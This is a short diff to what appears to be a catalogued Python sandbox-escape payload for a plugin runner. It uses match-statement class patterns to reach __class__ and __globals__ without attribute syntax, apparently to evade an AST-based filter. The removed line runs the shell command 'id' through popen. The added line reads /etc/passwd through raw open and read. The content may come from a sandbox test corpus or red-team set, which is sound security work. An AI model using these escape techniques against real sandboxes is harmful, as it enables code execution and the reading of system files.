@@ -1,7 +1,7 @@
 # family: dunder
 # kind: value
 # tries: class patterns of match read attributes without an attribute node in the syntax tree
-# success looks like: output of id (uid=)
+# success looks like: contents of /etc/passwd (root:x:0)
 def job(plugin):
   match ():
     case object(__class__=kind):
@@ -19,4 +19,4 @@ def job(plugin):
           pass
       match begin:
         case object(__globals__=names):
-          return names['popen']('id').read()
+          return names['read'](names['open']('/etc/passwd', 0), 200)
